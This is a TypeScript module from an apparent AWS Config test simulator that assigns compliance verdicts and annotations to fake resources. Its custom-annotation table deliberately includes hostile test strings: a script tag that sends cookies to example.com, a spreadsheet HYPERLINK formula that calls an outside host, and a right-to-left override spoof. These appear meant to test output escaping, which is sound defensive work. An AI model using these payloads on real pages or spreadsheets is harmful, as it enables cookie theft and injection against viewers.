/** Evaluates the sample account's rules over its resources: who is judged, how, and since when. */
import type { FakeAccount } from "../account.ts";
import { setVerdict } from "../config-changes.ts";
import { chanceOf } from "../fingerprint.ts";
import { recordsType } from "../recording.ts";
import type { FakeRegion, FakeResource, FakeRule, Verdict } from "../state.ts";
import { failingToEvaluate } from "./rules.ts";
import { accountType, annotationOf, fails } from "./weaknesses.ts";

const day = 86_400_000;

/** Managed rules that were deployed a moment ago and have not run yet, by identifier and region. */
const neverRan: Readonly<Record<string, readonly string[]>> = {
  ECS_CONTAINERS_NONPRIVILEGED: ["us-east-1"],
  SECRETSMANAGER_SECRET_UNUSED: ["eu-west-1", "us-east-1"],
  WAFV2_LOGGING_ENABLED: ["us-east-1"],
  EFS_ENCRYPTED_CHECK: ["us-west-2"],
};

/** Share of rows that say the rule does not apply to a resource it looked at. */
const notApplicableShare = 0.015;

/** Words from the authors of custom rules; some of them are hostile to whoever prints them. */
const customAnnotations: Readonly<Record<string, readonly string[]>> = {
  "s3-bucket-owner-tag-matches-hr-directory": [
    "owner 'j.doe' left the company on 2025-03-31",
    "<script>fetch('https://example.com/?c='+document.cookie)</script>",
    '=HYPERLINK("https://example.com/collect?row="&ROW(),"owner unknown")',
    "owner unknown: \u202Egpj.tnemtrapeD ecnaniF\u202C",
  ],
  "rds-maintenance-window-outside-business-hours": [
    "window Tue 14:00-14:30 is within business hours",
  ],
  "lambda-runtime-not-deprecated": [
    "runtime nodejs16.x has been deprecated",
    `runtime python3.7 has been deprecated; dependencies that need attention: ${"requests==2.20.0, urllib3==1.24.1, pyyaml==5.1, jinja2==2.10, ".repeat(4)}`.slice(
      0,
      256,
    ),
  ],
  "ec2-instance-started-from-golden-image": [
    "image ami-0abcdef1234567890 was not built by the platform team",
  ],
};

/**
 * The resources a rule looks at: the account, or every resource of its types. A rule that is triggered
 * by changes knows only what is recorded; one on a schedule asks the services.
 */
function judgedBy(region: FakeRegion, rule: FakeRule, accountId: string): readonly FakeResource[] {
  if (rule.resourceTypes.length === 0) return [{ type: accountType, id: accountId }];
  const types = new Set(
    rule.resourceTypes.filter(
      (type) => rule.trigger === "periodic" || recordsType(region.recorder, type),
    ),
  );
  return [...region.resources.values()].filter(({ type }) => types.has(type));
}

function verdictOf(
  seed: number,
  region: FakeRegion,
  rule: FakeRule,
  resource: FakeResource,
): Verdict {
  const identifier = rule.owner === "AWS" ? (rule.identifier ?? rule.name) : rule.name;
  const { type, id } = resource;
  if (type !== accountType && chanceOf(`na/${seed}/${identifier}/${id}`) < notApplicableShare)
    return "NOT_APPLICABLE";
  if (rule.owner !== "AWS")
    return chanceOf(`${seed}/${rule.name}/${id}`) < 0.25 ? "NON_COMPLIANT" : "COMPLIANT";
  return fails({ seed, region: region.name, identifier, type, id }) ? "NON_COMPLIANT" : "COMPLIANT";
}

function annotationFor(rule: FakeRule, failures: number): string | null {
  if (rule.owner === "AWS") return annotationOf(rule.identifier ?? "");
  const words = customAnnotations[rule.name] ?? [];
  return words[failures % Math.max(words.length, 1)] ?? null;
}

/** Whether AWS has no result of this rule, and says why. */
function isLeftUnevaluated(region: FakeRegion, rule: FakeRule, now: Date): boolean {
  const error = Object.entries(failingToEvaluate).find(([name]) => rule.name.startsWith(name))?.[1];
  if (error !== undefined) {
    rule.firstEvaluationStarted = true;
    rule.lastFailure = { at: new Date(now.getTime() - 0.1 * day), ...error };
    return true;
  }
  if (rule.identifier === "AWS_CONFIG_PROCESS_CHECK") return true;
  return neverRan[rule.identifier ?? ""]?.includes(region.name) ?? false;
}

/** A volume that a deployment pipeline asked about before making it: judged, but not there. */
const planned = {
  resourceType: "AWS::EC2::Volume",
  resourceId: "planned-volume-of-change-4711",
  verdict: "COMPLIANT",
  mode: "PROACTIVE",
} as const;

/** Runs every rule of a region once. */
export function evaluateRegion(account: FakeAccount, region: FakeRegion, seed: number): void {
  const { recorder } = region;
  // A stopped recorder's verdicts are as old as its stop.
  const last = recorder?.recording === false ? (recorder.stoppedAt ?? account.now) : account.now;
  for (const rule of region.rules.values()) {
    if (isLeftUnevaluated(region, rule, account.now)) continue;
    const ranAt = new Date(last.getTime() - chanceOf(`${region.name}/${rule.name}`) * 0.9 * day);
    rule.firstEvaluationStarted = true;
    rule.lastSuccessAt = ranAt;
    if (rule.name === "encrypted-volumes") setVerdict(region, rule, planned, ranAt);
    let failures = 0;
    for (const resource of judgedBy(region, rule, account.id)) {
      const verdict = verdictOf(seed, region, rule, resource);
      const annotation = verdict === "NON_COMPLIANT" ? annotationFor(rule, failures) : null;
      if (verdict === "NON_COMPLIANT") failures += 1;
      const age =
        chanceOf(`since/${resource.type}/${resource.id}/${rule.identifier ?? rule.name}`) ** 3;
      const inStateSince = new Date(ranAt.getTime() - age * 150 * day);
      const { type: resourceType, id: resourceId } = resource;
      setVerdict(
        region,
        rule,
        { resourceType, resourceId, verdict, annotation, inStateSince },
        ranAt,
      );
    }
  }
}
